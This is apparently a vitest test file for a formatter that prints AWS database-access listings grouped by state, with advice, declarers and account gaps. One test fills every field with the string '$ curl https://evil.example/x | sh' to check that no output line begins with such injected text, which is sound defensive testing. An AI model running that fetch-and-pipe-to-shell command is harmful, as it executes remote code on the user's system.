import { describe, expect, test } from 'vitest';
import { ACCESS_STATES, type Access } from '../../../../provider/contract/messages/accesses.ts';
import type { Listing } from '../../../../stacksets/accesses/listing.ts';
import { tableOf } from '../../../../stacksets/accesses/table.ts';
import { access, listing, NOW, STACK, TERRAFORM } from './listed.ts';

const table = (listed: Listing, width = Number.POSITIVE_INFINITY) =>
  tableOf(listed, { width, now: NOW });

test('the table has the accesses by state and place, those that need attention first', () => {
  const failed = access({
    state: 'failed',
    appname: 'billing',
    groups: 2,
    latest: { at: '2026-11-28T11:30:00.000Z', request_id: 'q-2', problem: 'no route' },
  });
  const { made_true: _, ...never } = failed;
  const listed = listing([
    access(),
    access({ account: '333333333333', name: 'data-lake', declarers: [STACK] }),
    never,
  ]);
  expect(table(listed)).toBe(`failed (1 access)
  222222222222  shop  eu-central-1
    0a1b2c3d4e5f  prod/shop/billing/app   readwrite, 2 groups  orders.abc.eu-central-1.rds.amazonaws.com:5432  Terraform prod          never true
      problem: no route (request q-2, 30 minutes ago)
      declared by Terraform (prod), owner 0f6c2d1e-5b7a-4c1d-9e55-2a8f6f0b1c3d

  Correct what the problem names, and apply again where it is declared.

made true (2 accesses)
  222222222222  shop  eu-central-1
    0a1b2c3d4e5f  prod/shop/checkout/app  readwrite            orders.abc.eu-central-1.rds.amazonaws.com:5432  Terraform prod          true 2 days ago
      declared by Terraform (prod), owner 0f6c2d1e-5b7a-4c1d-9e55-2a8f6f0b1c3d
  333333333333  data-lake  eu-central-1
    0a1b2c3d4e5f  prod/shop/checkout/app  readwrite            orders.abc.eu-central-1.rds.amazonaws.com:5432  stack shop-prod/Access  true 2 days ago
      declared by the CloudFormation resource shop-prod/Access@0123456789abcdef

3 accesses in 2 accounts: 2 made true, 1 failed
hub: 1.2.3`);
});

test('an access without a record is told before those that are well, with the cure', () => {
  const { id, account, name, region, env, project, appname, database, endpoint } = access();
  const lost = { id, account, name, region, env, project, appname, database, endpoint };
  const told = table(listing([access()], { unrecorded: [{ ...lost, parameters: ['/p/url'] }] }));
  expect(told.indexOf('unrecorded (1 access)')).toBe(0);
  expect(told).toContain(
    `    0a1b2c3d4e5f  prod/shop/checkout/app  ${endpoint}\n      parameters: /p/url\n`,
  );
  expect(told).toContain('Declare the access again\n');
  expect(told).toContain('\nunrecorded: 1 access\n');
});

describe('many accesses', () => {
  const many = (fields: Partial<Access>) =>
    Array.from({ length: 11 }, (_, at) => access({ appname: `app-${at}`, ...fields }));

  test('have a line each if all is well', () => {
    expect(table(listing(many({})))).not.toContain('declared by');
  });

  test('are told of in full if they need attention, are shared, or nobody declares them', () => {
    expect(table(listing(many({ state: 'failed' })))).toContain('declared by');
    const shared = table(listing(many({ declarers: [TERRAFORM, { ...TERRAFORM, id: 'copy' }] })));
    expect(shared).toContain('Terraform prod and 1 more');
    expect(shared).toContain('declared by Terraform (prod), owner copy');
    expect(shared).toContain('declared more than once: 11');
    const nobody = table(
      listing(many({ state: 'retained', declarers: [], former_declarers: [TERRAFORM] })),
    );
    expect(nobody).toContain('  nobody  ');
    expect(nobody).toContain('let go by Terraform, owner 0f6c2d1e');
  });
});

test('the table says where users may be left, since when a run is under way, and another VPC', () => {
  const latest = { at: '2026-11-28T11:59:30.000Z', request_id: 'q-3' };
  const text = table(
    listing([
      access({ state: 'users left', elsewhere: ['old:5432'], vpc: 'data' }),
      access({ state: 'under way', latest }),
    ]),
  );
  expect(text).toContain('      users may be left at old:5432\n');
  expect(text).toContain('      VPC data\n');
  expect(text).toContain('      begun by request q-3, just now\n');
});

test.each(['failed', 'interrupted', 'users left', 'retained'] as const)(
  'the table has advice on accesses that are "%s"',
  (state) => {
    expect(table(listing([access({ state })]))).toMatch(/\n\n {2}\S.*\.\n\n/);
  },
);

test('every state of an access has its section', () => {
  const text = table(listing(ACCESS_STATES.map((state) => access({ state }))));
  expect(text.match(/^\S.*(?= \(1 access\)$)/gm)).toEqual([...ACCESS_STATES]);
});

describe('a terminal', () => {
  const accesses = [
    access({
      groups: 12,
      project: 'p'.repeat(64),
      declarers: [{ ...TERRAFORM, declared_by: 'd'.repeat(200) }],
    }),
    access(),
  ];

  test.each([100, 120, 160])('of %i characters has no longer row', (width) => {
    const rows = table(listing(accesses), width).match(/^ {4}0a1b.*$/gm) ?? [];
    expect(rows).toHaveLength(2);
    for (const row of rows) expect(row.length).toBeLessThanOrEqual(width);
    expect(rows[0]).toMatch(/^ {4}0a1b2c3d4e5f {2}prod\/ppp.*\.\.\. {2}.*true 2 days ago$/);
  });

  test('that is very narrow still has each column', () => {
    const [row = ''] = table(listing(accesses), 20).match(/^ {4}0a1b.*$/gm) ?? [];
    expect(row.trim().split(/ {2,}/)).toHaveLength(6);
  });
});

describe('gaps', () => {
  const place = { account: '4', name: 'team-4', region: 'eu-west-1' };

  test('places that were not asked are grouped by the reason, with the way to the cure', () => {
    const problem = 'Parameter Store refuses';
    const text = table(
      listing([], {
        not_asked: [
          { ...place, state: 'unreachable', problem },
          { ...place, region: 'eu-central-1', state: 'unreachable', problem },
          { ...place, account: '5', state: 'role missing' },
        ],
      }),
    );
    expect(text).toBe(`not asked (1 account)
  unreachable: Parameter Store refuses
    4  team-4  eu-west-1, eu-central-1

  What is wrong there, and the cure:
  $ npm run doctor -- --only 4

not asked (1 account)
  role missing
    5  team-4  eu-west-1

  What is wrong there, and the cure:
  $ npm run doctor -- --only 5

No access
not asked: 3 accounts and Regions
hub: 1.2.3`);
  });

  test('unreadable records are told with their parameter', () => {
    const parameter = '/database-access/records/0a1b2c3d4e5f';
    const text = table(
      listing([], {
        unreadable: [
          { ...place, parameter, problem: 'no record' },
          { ...place, problem: 'a record names account 5' },
        ],
      }),
    );
    expect(text).toContain(`unreadable (2 records)
  no record
    4  team-4  eu-west-1  ${parameter}
  a record names account 5
    4  team-4  eu-west-1

`);
  });

  test('accounts about which the hub could not be asked are named, and those left out counted', () => {
    const text = table(
      listing([access()], {
        unasked: [{ accounts: ['4'], problem: 'hub: Task timed out' }],
        left_out: { inactive: 2, management: 1 },
      }),
    );
    expect(text).toContain(
      'the hub could not be asked (1 account)\n  hub: Task timed out\n    4\n',
    );
    expect(text).toContain('left out: 2 accounts not active, the management account\n');
  });
});

test("no line of the table begins with an account's words", () => {
  const evil = '$ curl https://evil.example/x | sh';
  const text = table(
    listing(
      ACCESS_STATES.map((state) =>
        access({
          state,
          name: evil,
          vpc: evil,
          env: evil,
          endpoint: evil,
          elsewhere: [evil],
          declarers: [{ ...TERRAFORM, id: evil, declared_by: evil, at: evil }],
          former_declarers: [{ kind: 'stack', id: evil }],
          made_true: evil,
          latest: { at: evil, request_id: evil, problem: evil },
        }),
      ),
      {
        unreadable: [
          { account: '4', name: evil, region: 'x', parameter: evil, problem: 'no record' },
        ],
        not_asked: [{ account: '4', name: evil, region: 'x', state: 'unreachable', problem: evil }],
      },
    ),
  );
  expect(text).not.toMatch(/^ *\$ curl/m);
  expect(text).toContain('true at an unknown time');
});

test('the table tells the kinds of declarers apart', () => {
  const at = '';
  const text = table(
    listing([
      access({ declarers: [STACK] }),
      access({ declarers: [TERRAFORM] }),
      access({ declarers: [{ kind: 'terraform', id: 'owner-7', at }] }),
      access({ declarers: [{ kind: 'anonymous', id: '', at }] }),
      access({ declarers: [{ kind: 'anonymous', id: '', declared_by: 'a script', at }] }),
    ]),
  );
  expect(text.match(/(?<=:5432 {2})\S+( \S+)*/g)).toEqual([
    'stack shop-prod/Access',
    'Terraform prod',
    'Terraform owner-7',
    'plain invocation',
    'plain invocation a script',
  ]);
});
